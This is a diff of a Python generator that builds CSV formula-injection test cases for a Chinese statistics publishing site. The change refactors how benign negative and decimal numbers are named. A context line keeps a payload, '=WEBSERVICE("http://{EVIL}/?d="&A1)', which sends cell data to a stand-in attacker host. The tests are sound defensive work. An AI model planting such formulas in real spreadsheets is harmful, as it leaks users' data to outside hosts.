@@ -1957,7 +1957,7 @@ CSV_CELLS = {
     "webservice": f'=WEBSERVICE("http://{EVIL}/?d="&A1)',
 }
 CSV_HEADERS = {"data-header": ("hyperlink", "at-sum"), "rows-header": ("dde-cmd",)}
-CSV_NUMBERS = ("-3.2", "226.4")  # benign: must stay numbers
+CSV_NUMBERS = {"negative-number": "-3.2", "decimal-number": "226.4"}  # benign: must stay numbers
 SJFB_COLUMN = (
     "content/sjfb/_column.yaml",
     "name: 数据发布\ntype: 数据发布\ndescription: 数据发布栏目\nkeywords: [数据]\n",
@@ -1981,7 +1981,7 @@ def csv_cases() -> list[Case]:
     or in the header; and plain negative and decimal numbers, which must stay numbers."""
     plan = [(f"{source}-cell", k, v) for k, v in CSV_CELLS.items() for source in ("data", "rows")]
     plan += [(place, k, CSV_CELLS[k]) for place, keys in CSV_HEADERS.items() for k in keys]
-    plan += [(f"{source}-cell", f"number{v}", v) for v in CSV_NUMBERS for source in ("data", "rows")]
+    plan += [(f"{source}-cell", k, v) for k, v in CSV_NUMBERS.items() for source in ("data", "rows")]
     cases = []
     for n, (place, name, cell) in enumerate(plan, start=1):
         stem = f"d{n:03d}"
@@ -1990,7 +1990,7 @@ def csv_cases() -> list[Case]:
             if place.endswith("header")
             else [["年份", "数值"], ["2024年", cell], ["2025年", "12.5"]]
         )
-        number = (cell,) if name.startswith("number") else ()
+        number = (cell,) if name in CSV_NUMBERS else ()
         head = f"title: 数据用例{stem}\ndate: 2024-03-05 09:30\nsource: 测试县统计局\n"
         item = f"content/sjfb/{stem}.yaml"
         if place.startswith("data"):
